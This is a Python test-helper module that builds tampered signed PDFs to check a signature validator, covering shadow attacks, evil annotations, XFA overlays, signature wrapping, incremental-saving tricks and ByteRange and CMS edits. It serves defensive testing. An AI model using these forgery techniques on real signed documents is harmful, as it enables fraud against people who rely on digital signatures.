# SPDX-License-Identifier: EUPL-1.2
"""What attackers and bad programs do to signed PDFs, made by code from a good one."""

import re
from collections.abc import Callable
from io import BytesIO
from typing import Any

import pikepdf
from asn1crypto import cms
from pyhanko.pdf_utils import generic
from pyhanko.pdf_utils.generic import pdf_name
from pyhanko.pdf_utils.incremental_writer import IncrementalPdfFileWriter
from pyhanko.sign import signers

GAP = re.compile(rb"/Contents <([0-9A-Fa-f]{512,})>")
RANGE = re.compile(rb"/ByteRange \[0 (\d+) (\d+) (\d+)\s*\]")

Change = Callable[[cms.SignedData, Any], None]


class TamperingSigner(signers.SimpleSigner):
    """Signs, changes what it made and signs the attributes anew: a signer who does it wrong on purpose."""

    change: Change

    async def async_sign(self, *args: Any, **kwargs: Any) -> cms.ContentInfo:
        made = await super().async_sign(*args, **kwargs)
        (signer,) = made["content"]["signer_infos"]
        self.change(made["content"], signer)
        attested = signer["signed_attrs"].untag().dump(force=True)
        signer["signature"] = await self.async_sign_raw(
            attested, "sha256", dry_run=kwargs.get("dry_run", False)
        )
        return made


def tampering(signer: signers.SimpleSigner, change: Change) -> TamperingSigner:
    """Return a signer like another that changes what it signs."""
    made = TamperingSigner(
        signing_cert=signer.signing_cert, signing_key=signer.signing_key, cert_registry=signer.cert_registry
    )
    made.change = change
    return made


def contents(pdf: bytes, number: int = 0) -> bytes:
    """Return the CMS in one of the signatures, without its padding."""
    return bytes.fromhex(GAP.findall(pdf)[number].decode("ascii")).rstrip(b"\0")


def with_contents(pdf: bytes, value: bytes, number: int = 0) -> bytes:
    """Return ``pdf`` with other bytes in the place of a signature, which no range covers."""
    gap = list(GAP.finditer(pdf))[number]
    text = value.hex().encode("ascii")
    assert len(text) <= len(gap[1])
    return pdf[: gap.start(1)] + text.ljust(len(gap[1]), b"0") + pdf[gap.end(1) :]


def changed_cms(pdf: bytes, change: Change, number: int = 0) -> bytes:
    """Return ``pdf`` with what is not signed in a signature changed."""
    info = cms.ContentInfo.load(contents(pdf, number))
    change(info["content"], info["content"]["signer_infos"][0])
    value: bytes = info.dump(force=True)
    return with_contents(pdf, value, number)


def with_range(pdf: bytes, numbers: tuple[int, int, int, int]) -> bytes:
    """Return ``pdf`` with another ``/ByteRange``, as long as the one that it had."""
    found = RANGE.search(pdf)
    assert found is not None
    text = b"/ByteRange [%d %d %d %d" % numbers
    return pdf.replace(found[0], text.ljust(len(found[0]) - 1) + b"]")


def updated(pdf: bytes, change: Callable[[IncrementalPdfFileWriter], None]) -> bytes:
    """Return ``pdf`` with an incremental update."""
    writer = IncrementalPdfFileWriter(BytesIO(pdf), strict=False)
    change(writer)
    out = BytesIO()
    writer.write(out)  # type: ignore[no-untyped-call]  # pyHanko does not say its types
    return out.getvalue()


def other_page_content(writer: IncrementalPdfFileWriter) -> None:
    """The page says something else (shadow attack "replace")."""
    page = writer.root["/Pages"]["/Kids"][0]
    stream = generic.StreamObject(stream_data=b"BT /F1 24 Tf 72 700 Td (Pagueu 9000 euros) Tj ET")
    page[pdf_name("/Contents")] = writer.add_object(stream)
    writer.update_container(page)


def hidden_layer(writer: IncrementalPdfFileWriter) -> None:
    """What lay above is taken away (shadow attack "hide")."""
    page = writer.root["/Pages"]["/Kids"][0]
    page[pdf_name("/Contents")] = generic.ArrayObject()
    writer.update_container(page)


def other_pages(writer: IncrementalPdfFileWriter) -> None:
    """The catalogue points to other pages (shadow attack "hide and replace")."""
    old = writer.root["/Pages"]["/Kids"][0]
    page = _dictionary({key: old.raw_get(key) for key in old})
    kids = generic.ArrayObject([writer.add_object(page)])
    count = generic.NumberObject(1)  # type: ignore[no-untyped-call]  # pyHanko does not say its types
    tree = _dictionary({"/Type": pdf_name("/Pages"), "/Count": count, "/Kids": kids})
    writer.root[pdf_name("/Pages")] = writer.add_object(tree)
    writer.update_container(writer.root)


def _dictionary(entries: dict[str, Any]) -> generic.DictionaryObject:
    made = generic.DictionaryObject()  # type: ignore[no-untyped-call]  # pyHanko does not say its types
    for key, value in entries.items():
        made[pdf_name(key)] = value
    return made


def annotation(writer: IncrementalPdfFileWriter) -> None:
    """A note that covers the text (evil annotation attack)."""
    page = writer.root["/Pages"]["/Kids"][0]
    note = _dictionary(
        {
            "/Type": pdf_name("/Annot"),
            "/Subtype": pdf_name("/FreeText"),
            "/Rect": generic.ArrayObject(map(generic.NumberObject, (50, 650, 500, 750))),
            "/Contents": generic.TextStringObject("Pagueu 9000 euros"),
        }
    )
    notes = generic.ArrayObject([*page.get("/Annots", ()), writer.add_object(note)])
    page[pdf_name("/Annots")] = notes
    writer.update_container(page)


def form_of_xml(writer: IncrementalPdfFileWriter) -> None:
    """An XFA form, which some readers show in place of the pages."""
    stream = generic.StreamObject(stream_data=b"<xdp:xdp xmlns:xdp='http://ns.adobe.com/xdp/'/>")
    form = writer.root["/AcroForm"]
    form[pdf_name("/XFA")] = writer.add_object(stream)
    writer.update_container(form)


def unreferenced_update(pdf: bytes) -> bytes:
    """Objects behind the end that no cross-reference names, for readers that repair files (incremental saving attack)."""
    start = re.findall(rb"startxref\s+(\d+)", pdf)[-1]
    page = b"3 0 obj\n<</Type/Page/MediaBox[0 0 9 9]>>\nendobj\n"
    return pdf + page + b"trailer\n<</Root 1 0 R>>\nstartxref\n%s\n%%%%EOF\n" % bytes(start)


def wrapped(pdf: bytes) -> bytes:
    """The signed end is moved down and other objects take its place (signature wrapping attack)."""
    found = RANGE.search(pdf)
    assert found is not None
    first, second, rest = (int(number) for number in found.groups())
    evil = b"\n3 0 obj\n<</Type/Page/MediaBox[0 0 9 9]>>\nendobj\n"
    moved = pdf[:second] + evil + pdf[second : second + rest] + pdf[second + rest :]
    return with_range(moved, (0, first, second + len(evil), rest))


def saved_anew(pdf: bytes) -> bytes:
    """The file is written anew by another program."""
    with pikepdf.open(BytesIO(pdf)) as document:
        out = BytesIO()
        document.save(out)
    return out.getvalue()


def plain(objects: list[bytes]) -> bytes:
    """Return a PDF of these objects with a classic table."""
    out, offsets = b"%PDF-1.7\n", []
    for number, each in enumerate(objects, 1):
        offsets.append(len(out))
        out += b"%d 0 obj\n%s\nendobj\n" % (number, each)
    table = b"".join(b"%010d 00000 n \n" % each for each in offsets)
    size = len(objects) + 1
    out += b"xref\n0 %d\n0000000000 65535 f \n%s" % (size, table)
    start = len(out) - len(table) - len(b"xref\n0 %d\n0000000000 65535 f \n" % size)
    return out + b"trailer\n<</Size %d/Root 1 0 R>>\nstartxref\n%d\n%%%%EOF\n" % (size, start)


DANGLING = 50


def with_dangling() -> bytes:
    """A page that refers to an object which is not there: prepared by an attacker before it is signed."""
    page = (
        b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]/Resources<<>>/Contents[4 0 R %d 0 R]>>" % DANGLING
    )
    tree = b"<</Type/Pages/Kids[3 0 R]/Count 1>>"
    return plain([b"<</Type/Catalog/Pages 2 0 R>>", tree, page, b"<</Length 3>>stream\nq Q\nendstream"])


def defined_later(pdf: bytes) -> bytes:
    """The object that was missing comes in an update after the signature."""
    body = b"%d 0 obj\n<</Length 5>>stream\nq Q q\nendstream\nendobj\n" % DANGLING
    start = re.findall(rb"startxref\s+(\d+)", pdf)[-1]
    root = re.findall(rb"/Root (\d+ 0 R)", pdf)[-1]
    size = max(DANGLING + 1, *(int(each) for each in re.findall(rb"/Size (\d+)", pdf)))
    table = b"xref\n%d 1\n%010d 00000 n \n" % (DANGLING, len(pdf))
    trailer = b"trailer\n<</Size %d/Root %s/Prev %s>>\n" % (size, root, start)
    return pdf + body + table + trailer + b"startxref\n%d\n%%%%EOF\n" % (len(pdf) + len(body))
